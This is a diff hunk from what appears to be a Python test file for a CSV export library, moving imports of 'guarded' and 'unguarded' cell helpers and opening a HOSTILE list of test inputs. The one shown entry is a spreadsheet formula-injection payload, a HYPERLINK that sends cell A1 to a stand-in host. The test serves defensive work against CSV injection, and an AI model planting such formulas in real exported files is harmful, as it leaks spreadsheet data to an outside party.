@@ -14,8 +14,9 @@ from torch import nn
 
 import shapetrace
 from shapetrace.errors import ReportError
-from shapetrace.views.csv import guarded, read_csv, unguarded
-from shapetrace.views.frame import csv, frame
+from shapetrace.views.cells import guarded, unguarded
+from shapetrace.views.csv import csv, read_csv
+from shapetrace.views.frame import frame
 
 HOSTILE = [
     '=HYPERLINK("http://evil/?"&A1,"open")',
